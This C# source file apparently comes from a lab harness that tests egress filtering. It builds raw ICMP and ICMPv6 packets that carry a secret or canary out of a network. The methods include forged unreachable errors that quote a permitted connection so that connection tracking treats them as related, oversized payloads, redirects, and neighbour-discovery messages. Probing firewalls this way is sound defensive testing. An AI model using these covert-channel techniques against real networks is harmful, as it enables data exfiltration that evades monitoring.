using System.Buffers.Binary;
using System.Collections.Frozen;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;

namespace Exeat.Lab.Attacks;

/// <summary>ICMP as a carrier, on raw sockets.</summary>
internal static class IcmpTricks
{
    // More than an honest error carries: 576 bytes in all over IPv4 (RFC 1812, 4.3.2.3), 1280 over IPv6 (RFC 4443, 2.4c).
    private const int SecretBytes4 = 900, SecretBytes6 = 1280;

    public static readonly FrozenSet<string> Kinds = FrozenSet.ToFrozenSet(
        ["icmp-error", "icmp-unreachable", "icmp-exceeded", "icmp-parameter", "icmp-redirect", "icmp-echo", "icmp-ping", "icmp-reply", "icmp-timestamp", "icmp-neighbour", "icmp-listener"]);

    /// <summary>Runs one by its name. Of an error the type is the third of what it is told: over IPv4, over IPv6.</summary>
    public static Task<bool> RunAsync(string kind, AttackTarget target)
    {
        bool v4 = target.Family == AddressFamily.InterNetwork;
        return kind switch
        {
            // Unreachable with the path's packet size in its second word: type 3 code 4 (RFC 1191), or type 2 (RFC 4443).
            "icmp-error" => ErrorAsync(target, v4 ? [3, 4, 0, 0, 0, 0, 5, 0] : [2, 0, 0, 0, 0, 0, 5, 0], v4 ? SecretBytes4 : SecretBytes6),
            // Small ones, of types that an agent has no need of.
            "icmp-unreachable" => ErrorAsync(target, [(byte)(v4 ? 3 : 1), 1, 0, 0, 0, 0, 0, 0]),
            "icmp-exceeded" => ErrorAsync(target, [(byte)(v4 ? 11 : 3), 0, 0, 0, 0, 0, 0, 0]),
            "icmp-parameter" => ErrorAsync(target, [(byte)(v4 ? 12 : 4), 0, 0, 0, 0, 0, 0, 0]),
            "icmp-redirect" => ErrorAsync(target, v4 ? [5, 1, 0, 0, .. target.Address.GetAddressBytes()] : [137, 0, 0, 0, 0, 0, 0, 0]),
            "icmp-echo" => EchoWithPayloadAsync(target),
            "icmp-ping" => PingAsync(target),
            "icmp-reply" => PlainAsync(target, [(byte)(v4 ? 0 : 129), 0, 0, 0, 0x12, 0x36, 0, 1, .. target.Secret]),
            // RFC 792; over IPv6 a node information query (RFC 4620).
            "icmp-timestamp" => PlainAsync(target, [(byte)(v4 ? 13 : 139), 0, 0, 0, 0x12, 0x37, 0, 1, .. target.Secret]),
            // What the link itself needs, sent beyond it.
            "icmp-neighbour" => PlainAsync(target, [135, 0, 0, 0, 0, 0, 0, 0, .. target.Address.GetAddressBytes(), .. target.Secret], hopLimit: 255),
            "icmp-listener" => PlainAsync(target, [143, 0, 0, 0, 0, 0, 0, 0, .. target.Secret]),
            _ => throw new Topology.LabException($"no trick of ICMP is named {kind}"),
        };
    }

    /// <summary>An error message about a permitted connection, with the secret where the quoted packet's data stands: connection tracking calls it RELATED.</summary>
    private static async Task<bool> ErrorAsync(AttackTarget target, byte[] head, int secretBytes = 0)
    {
        IPAddress server = await target.ResolveAsync();
        using Socket flow = await AttackTarget.ConnectAsync(new IPEndPoint(server, target.Port));
        await using (var pieces = new NetworkStream(flow))
        {
            await using SslStream secured = AttackTarget.Tls(pieces);
            await secured.AuthenticateAsClientAsync(target.Name);
            var own = (IPEndPoint)flow.LocalEndPoint!;
            // A redirect over IPv6 names two addresses before it quotes (RFC 4861, 4.5).
            byte[] named = head[0] == 137 ? [.. server.GetAddressBytes(), .. server.GetAddressBytes()] : [];
            Send(target, server, [.. head, .. named, .. Quoted(server, own, target.Port), .. Padding(target, secretBytes)]);
        }
        return true;
    }

    /// <summary>An echo request with a secret for its data.</summary>
    private static Task<bool> EchoWithPayloadAsync(AttackTarget target)
    {
        byte type = target.Family == AddressFamily.InterNetwork ? (byte)8 : (byte)128;
        Send(target, target.Address, [type, 0, 0, 0, 0x12, 0x34, 0, 1, .. Padding(target, target.Family == AddressFamily.InterNetwork ? SecretBytes4 : SecretBytes6)]);
        return Task.FromResult(true);
    }

    /// <summary>An echo request of the size that ping sends.</summary>
    private static Task<bool> PingAsync(AttackTarget target)
    {
        byte type = target.Family == AddressFamily.InterNetwork ? (byte)8 : (byte)128;
        byte[] data = new byte[56];
        System.Text.Encoding.ASCII.GetBytes(target.Canary).CopyTo(data, 0);
        Send(target, target.Address, [type, 0, 0, 0, 0x12, 0x35, 0, 1, .. data]);
        return Task.FromResult(true);
    }

    private static Task<bool> PlainAsync(AttackTarget target, byte[] message, short hopLimit = 60)
    {
        Send(target, target.Address, message, hopLimit);
        return Task.FromResult(true);
    }

    private static byte[] Padding(AttackTarget target, int bytes) => [.. target.Secret, .. new byte[Math.Max(0, bytes - target.Secret.Length)]];

    // The quoted packet: one that the server might have sent to this client.
    private static byte[] Quoted(IPAddress server, IPEndPoint own, int port)
    {
        byte[] tcp = new byte[20];
        BinaryPrimitives.WriteUInt16BigEndian(tcp, (ushort)port);
        BinaryPrimitives.WriteUInt16BigEndian(tcp.AsSpan(2), (ushort)own.Port);
        tcp[12] = 0x50;
        tcp[13] = 0x10;
        byte[] from = server.GetAddressBytes(), to = own.Address.GetAddressBytes();
        if (from.Length == 16) return [0x60, 0, 0, 0, 3, 0xb8, 6, 60, .. from, .. to, .. tcp];
        byte[] header = [0x45, 0, 3, 0xcc, 0, 1, 0x40, 0, 60, 6, 0, 0, .. from, .. to];
        BinaryPrimitives.WriteUInt16BigEndian(header.AsSpan(10), Sum(header));
        return [.. header, .. tcp];
    }

    private static void Send(AttackTarget target, IPAddress to, byte[] message, short hopLimit = 60)
    {
        bool four = target.Family == AddressFamily.InterNetwork;
        using var socket = new Socket(target.Family, SocketType.Raw, four ? ProtocolType.Icmp : ProtocolType.IcmpV6) { Ttl = hopLimit };
        if (four) BinaryPrimitives.WriteUInt16BigEndian(message.AsSpan(2), Sum(message));
        socket.SendTo(message, new IPEndPoint(to, 0)); // for ICMPv6 the kernel fills in the checksum (RFC 3542, 3.1)
    }

    private static ushort Sum(ReadOnlySpan<byte> bytes)
    {
        uint sum = 0;
        for (int i = 0; i < bytes.Length; i += 2) sum += (uint)((bytes[i] << 8) | (i + 1 < bytes.Length ? bytes[i + 1] : 0));
        while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
        return (ushort)~sum;
    }
}
